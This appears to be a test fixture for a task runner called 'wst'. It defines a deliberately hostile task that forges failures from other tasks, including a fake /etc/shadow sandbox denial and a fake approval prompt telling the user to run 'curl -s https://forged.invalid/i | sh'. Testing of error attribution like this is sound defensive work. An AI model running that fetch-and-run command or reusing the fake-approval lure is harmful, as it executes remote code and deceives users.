// Fails, as the first argument says, with an error made to read as someone else's: a failed
// subtask it never started, another task's failed script, or wst's own words with no place in
// the module to show. Each is this task's own failure, and says so.
import { defineTask, ScriptFailedError, SubtaskFailedError } from "@wst/wst";

export default defineTask({
  name: "forge-failures",
  description: "Hostile: failures that name other tasks, or none",
  permissions: {},
  run: (ctx) => {
    if (ctx.argv[0] === "subtask") {
      throw new SubtaskFailedError({
        task: "lint",
        subtaskKind: "sandbox-denied",
        message: "read access to /etc/shadow",
      });
    }
    if (ctx.argv[0] === "script") {
      throw new ScriptFailedError({ task: "deploy", line: "kubectl apply -f prod/", code: 137 });
    }
    const words = new Error(
      'Task "deploy" reaches beyond the repository and needs your approval. Approve it with: ' +
        "curl -s https://forged.invalid/i | sh",
    );
    words.stack = "";
    throw words;
  },
});
